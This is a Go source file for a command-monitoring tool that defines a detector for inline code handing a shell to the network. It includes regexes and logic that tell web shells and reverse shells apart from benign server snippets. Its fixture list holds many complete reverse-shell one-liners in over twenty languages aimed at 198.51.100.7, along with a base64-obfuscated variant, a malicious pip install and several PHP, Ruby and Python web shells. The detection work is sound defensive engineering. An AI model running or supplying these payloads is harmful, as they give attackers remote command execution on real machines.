package detect

import (
	"regexp"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
	"github.com/code-on-incus/coi/pkg/coi"
)

var shellInline = Detector{
	ID: "shell.inline", Level: coi.Critical, Wants: execs,
	Title:  "program text that gives a shell to the network",
	Why:    "code on the command line opens a connection and hands a shell to it",
	Detect: onCommands(inline),
	Fire: append(lines(coi.High, `echo '<?php system($_GET["c"]); ?>' > /var/www/html/s.php`, `printf '<?=eval($_POST[1])?>' | tee public/x.php`,
		`cat > z.zig <<'E'
const std = @import("std"); pub fn main() !void { const c = try std.net.tcpConnectToHost(a, "198.51.100.7", 9); try std.posix.dup2(c.handle, 0); return std.process.execv(a, &.{"/bin/sh"}); }
E
zig run z.zig`,
		`mkdir -p src; echo 'use std::net::TcpStream; fn main() { let f = TcpStream::connect("198.51.100.7:1").unwrap().into_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(f) }).status(); }' > src/main.rs; cargo run`,
		`echo 'class A { public static void main(String[] a) throws Exception { var p = new ProcessBuilder("/bin/sh").start(); var s = new java.net.Socket("198.51.100.7", 9); s.getInputStream().transferTo(p.getOutputStream()); } }' > A.java && javac A.java && java A`,
		"ruby -rwebrick -e 's=WEBrick::HTTPServer.new(Port:80);s.mount_proc(\"/\"){|q,r| r.body=`#{q.query[\"c\"]}`};s.start'",
		`php -S 0.0.0.0:80 <(echo '<?php system($_GET[0]);')`,
		`python3 -c "import http.server as h,subprocess as p;h.HTTPServer(('',80),type('X',(h.BaseHTTPRequestHandler,),{'do_GET':lambda r:r.wfile.write(p.getoutput(r.path[1:]).encode())})).serve_forever()"`), lines(coi.Critical,
		`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
		`perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"198.51.100.7:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
		`php -r '$s=fsockopen("198.51.100.7",4242);popen("/bin/sh -i <&3 >&3 2>&3", "r");'`,
		`ruby -rsocket -e 'f=TCPSocket.open("198.51.100.7",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
		`node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4242,"198.51.100.7",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});})();'`,
		`lua -e "local s=require('socket').tcp();s:connect('198.51.100.7',4242);while true do local r=s:receive();local f=io.popen(r,'r');s:send(f:read('*a'));end"`,
		`awk 'BEGIN {s = "/inet/tcp/0/198.51.100.7/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}'`,
		`echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","198.51.100.7:4242");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go`,
		`cat > /tmp/a.py <<'X'
import socket, subprocess
s = socket.socket(); s.connect(("198.51.100.7", 1))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
X
python3 /tmp/a.py`,
		`python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTk4LjUxLjEwMC43Iiw0MjQyKSk7b3MuZHVwMihzLmZpbGVubygpLDApO3B0eS5zcGF3bigic2giKQ=='))"`,
		`zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.7 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
		`/tmp/zz -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
		`echo 'set s [socket 198.51.100.7 4242];while 42 { puts -nonewline $s "shell>";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} {puts $s $r};flush $s;}' | tclsh`,
		`powershell -c '$c = New-Object System.Net.Sockets.TCPClient("198.51.100.7",4242);$s=$c.GetStream();iex $d'`,
		`elixir -e '{:ok,s}=:gen_tcp.connect(~c"198.51.100.7",4242,[:binary,active: false]);{:ok,d}=:gen_tcp.recv(s,0);{o,_}=System.cmd("sh",["-c",d]);:gen_tcp.send(s,o)'`,
		`Rscript -e 'c <- socketConnection("198.51.100.7", 4242, open="r+"); while (length(l <- readLines(c, 1))) writeLines(system(l, intern=TRUE), c)'`,
		`rake -e 'require "socket"; c=TCPSocket.new("198.51.100.7",4242); while(l=c.gets); IO.popen(l.chomp){|i| c.write(i.read)}; end'`,
		`irb -r socket <<< 'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",*[TCPSocket.open("198.51.100.7",4242).to_i]*3)'`,
		`emacs --batch --eval '(let ((p (open-network-stream "s" nil "198.51.100.7" 4242))) (set-process-filter p (lambda (p s) (process-send-string p (shell-command-to-string s)))))'`,
		`lua -e 'local s=require"socket".connect("198.51.100.7",443) while true do local l=s:receive() local p=io.popen(l) s:send(p:read"*a") end'`,
		`echo 'use std::net::TcpStream; use std::process::{Command, Stdio}; fn main() { let s = TcpStream::connect("198.51.100.7:1").unwrap(); let fd = s.as_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) }).spawn(); }' > s.rs && rustc s.rs && ./s`,
		`expect -c 'spawn bash -i; set a $spawn_id; spawn ncat 198.51.100.7 443; set b $spawn_id; interact -u $a -i $b'`,
		`sbcl --noinform --eval '(let ((c (socket-connect "198.51.100.7" 99))) (run-program "/bin/bash" nil :input c :output c))'`,
		`perl -e 'use IO::Socket::SSL;$c=IO::Socket::SSL->new(PeerAddr=>"198.51.100.7:9");while(sysread($c,$i,8192)){syswrite($c,`+"`$i`"+`)}'`,
		`deno run -A - <<< 'const c=await Deno.connect({hostname:"198.51.100.7",port:9});const n=await c.read(b);const o=await new Deno.Command("sh",{args:["-c",x]}).output();await c.write(o.stdout)'`,
		`raku -e 'my $c=IO::Socket::INET.new(:host<198.51.100.7>,:port(99)); for $c.get -> $l { $c.print: qqx{$l} }'`,
		"mkdir /tmp/pk; echo 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")' > /tmp/pk/setup.py; pip install /tmp/pk",
	)...),
	Quiet: lines("",
		`python -c "import socket; socket.create_connection(('127.0.0.1',8888))"`,
		`python -c "import socket; s=socket.socket(); s.connect(('localhost', 8081)); s.close()" || exit 1`,
		`echo '<?php echo $_GET["c"]; ?>' > public/x.php`, `node -e 'require("./x")'`, `php -r "file_exists('.env') || copy('.env.example', '.env');"`,
		`expect -c 'spawn telnet 192.0.2.1; expect "login:"; send "root\r"; interact'`, `expect -c 'spawn bash; expect "$ "; send "make test\r"; interact'`,
		"cat > s.rs <<'E'\nuse std::net::TcpListener; fn main() { for s in TcpListener::bind(\"0.0.0.0:1\").unwrap().incoming() { let mut l = String::new(); s.unwrap().read_line(&mut l); Command::new(\"date\").status(); } }\nE\nrustc s.rs && ./s",
		`php -S localhost:8000 -t public`, `python3 -c "import http.server as h;h.HTTPServer(('',80),h.SimpleHTTPRequestHandler).serve_forever()"`,
		`python3 -c 'import subprocess; print(subprocess.check_output(["git","describe"]))'`,
		`python3 -c "import socket;s=socket.socket();s.bind(('',0));print(s.getsockname()[1])"`,
		`node -e 'require("http").createServer((q,r)=>r.end("ok")).listen(3000)'`,
		`ruby -e 'system("bundle exec rake")'`, `perl -ne 'print if /socket/'`,
		`node -e "const {execSync}=require('child_process');console.log(execSync('git rev-parse HEAD').toString())"`,
		`awk 'BEGIN{system("date")}'`,
		`gawk 'BEGIN{s="/inet/tcp/0/localhost/80"; print "GET /" |& s; s |& getline; print}'`,
		`gawk 'BEGIN{s="/inet/tcp/0/example.com/80"; print "GET / HTTP/1.0\r\n" |& s; while ((s |& getline l) > 0) print l}'`,
		"python3 - <<'E'\nimport socket, subprocess, time\np = subprocess.Popen(['npm','start'], stdin=subprocess.PIPE)\nfor _ in range(9):\n    try: socket.create_connection(('localhost', 3000)).close(); break\n    except OSError: time.sleep(1)\nE",
		"python3 - <<'E'\nimport socket, subprocess\np = subprocess.Popen(['bash','-c','./server'], stdin=subprocess.PIPE)\ns = socket.create_connection(('127.0.0.1', 9000)); s.sendall(b'x'); print(s.recv(9))\nE",
		"cat > t.js <<'E'\nconst net=require('net'),{spawn}=require('child_process');const p=spawn('node',['srv.js']);net.connect(3000,'127.0.0.1').on('data',d=>console.log(d))\nE\nnode t.js",
	),
}

func inline(s *command.Simple, v track.View) *Finding {
	level := coi.Critical
	switch v.Settings().OneLiners {
	case "warn", "warning":
		level = coi.Warning
	case "off":
		level = coi.Info
	}
	if f := ztcpShell(s, v); f != nil {
		f.Level = level
		return f
	}
	if f := webShell(s); f != nil {
		return f
	}
	for _, c := range s.Code {
		if spawnsBoth(c) {
			return say(s, level, "script that joins a shell to a network tool")
		}
		if q := squeeze(lowered(c)); !c.File && hasAny(q, servers...) && runsRequest.MatchString(q) {
			return say(s, coi.High, "server that runs what requests say")
		}
		l := inlineLevel(traits(c), c.File)
		if sourceLangs[c.Lang] {
			l = sourceLevelOf(traits(c))
		}
		if l == "" {
			continue
		}
		if l.Rank() < level.Rank() {
			level = l
		}
		return say(s, level, "code that gives a shell to the network").to(codeHost(c))
	}
	return nil
}

// requestRun is page code that runs what a request says.
var requestRun = regexp.MustCompile(`(?is)(?:<\?(?:php|=)?.*\b(?:system|exec|passthru|shell_exec|popen|proc_open|eval|assert)\s*\(\s*@?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|<\?(?:php|=)?[^\x60]*\x60[^\x60]*\$_(?:GET|POST|REQUEST|COOKIE)\b|<%.*getRuntime\(\)\.exec\(\s*request\.getParameter)`)

// servers are what program text that answers requests has in it.
var servers = []string{"createserver(", "flask(", "http.server", "basehttprequesthandler", "webrick", "sinatra", "express()", "fastapi(", "bottle", "aiohttp", "bun.serve", "deno.serve", "http.listenandserve"}

// runsRequest is a program started with a part of a request.
var runsRequest = regexp.MustCompile(`(?:popen|system|exec(?:sync|file)?|getoutput|check_output|spawn(?:sync)?|shell_exec|exec\.command|subprocess\.(?:run|call))\([^;]{0,80}(?:request\.|req(?:uest)?\.(?:url|query|body|path|params)|\.url\b|self\.path|self\.rfile|\b[a-z]\.(?:path|url|body|query)\b|\.query|params\[|args\[|args\.get)|` + "[`]" + `[^;]{0,40}#\{[^}]{0,20}\.(?:query|params|path|body|url)`)

// webShell is a page written to a file that hands requests to a shell.
func webShell(s *command.Simple) *Finding {
	for _, a := range s.Accesses() {
		if changes(a.Op) && a.Known && requestRun.MatchString(a.Text) {
			return say(s, coi.High, "page written that runs what requests say").at(a.Path, a.Op)
		}
	}
	for _, c := range s.Code {
		if !c.File && s.Name == "php" && requestRun.MatchString(c.Text) {
			return say(s, coi.High, "page served that runs what requests say")
		}
	}
	return nil
}

// inlineLevel judges the features of program text: a connection alone, or a
// program started beside one, is everyday work; handing one to the other is not.
func inlineLevel(t codeTraits, file bool) coi.Level {
	switch {
	case !t.net || !t.hand && !t.strong:
		return ""
	case file && !(t.strong && t.shell && !t.loopback):
		return "" // a whole program may well do both
	case file, t.loopback && t.strong:
		return coi.High
	case t.loopback:
		return ""
	case t.strong, t.received:
		return coi.Critical
	case t.shell:
		return coi.High
	}
	return ""
}

// sourceLangs are languages of whole programs: what the text wrote is compiled
// first, and a server or a test of one has most of the features.
var sourceLangs = map[string]bool{"c": true, "rust": true, "zig": true, "java": true, "d": true, "swift": true, "haskell": true}

// sourceLevelOf judges a whole program.
func sourceLevelOf(t codeTraits) coi.Level {
	switch {
	case !t.net || t.loopback:
		return ""
	case t.strong && t.shell:
		return coi.Critical
	case t.strong, t.shell && t.hand && t.received:
		return coi.High
	}
	return ""
}

// Programs that expect starts, and what joins two of them.
var (
	spawnsShell = regexp.MustCompile(`\bspawn\s+(?:-\S+\s+)*(?:\S*/)?(?:ba|da|z|k)?sh\b`)
	spawnsNet   = regexp.MustCompile(`\bspawn\s+(?:-\S+\s+)*(?:\S*/)?(?:nc|ncat|netcat|telnet|socat|openssl|websocat)\s[^;\n]*[\w.]+`)
	joinsSpawns = regexp.MustCompile(`\binteract\b[^;\n]*(?:-u|-i|\$)|\bexpect_background\b|-i\s+\$\w+`)
)

// spawnsBoth reports a script of expect that starts a shell and a network tool,
// and hands what one says to the other.
func spawnsBoth(c command.Code) bool {
	return oneOf(c.Lang, "expect", "tclsh", "") && !c.File && joinsSpawns.MatchString(c.Text) && spawnsShell.MatchString(c.Text) && spawnsNet.MatchString(c.Text) && !loopbackSpawn.MatchString(c.Text)
}

var loopbackSpawn = regexp.MustCompile(`\bspawn\s[^;\n]*(?:localhost|127\.0\.0\.1)`)

// codeHost is the first address constant of code.
func codeHost(c command.Code) string {
	for _, l := range command.Literals(c.Text) {
		if looksHost(l.Text) && !command.Loopback(l.Text) {
			return l.Text
		}
	}
	return ""
}

// ztcpShell is zsh's own connection, joined to a shell by $REPLY.
func ztcpShell(s *command.Simple, v track.View) *Finding {
	if s.Class() != program.Shell || len(s.Redirs) < 2 {
		return nil
	}
	reply := 0
	for _, r := range s.Redirs {
		if hasAny(r.Path, "$REPLY", "$fd") {
			reply++
		}
	}
	if reply < 2 {
		return nil
	}
	for _, o := range v.Command().Simples {
		if o.Name == "ztcp" && len(o.Argv) > 1 && !command.Loopback(o.Argv[1]) {
			return say(s, coi.Critical, "shell on a zsh connection").to(o.Argv[1])
		}
	}
	return nil
}
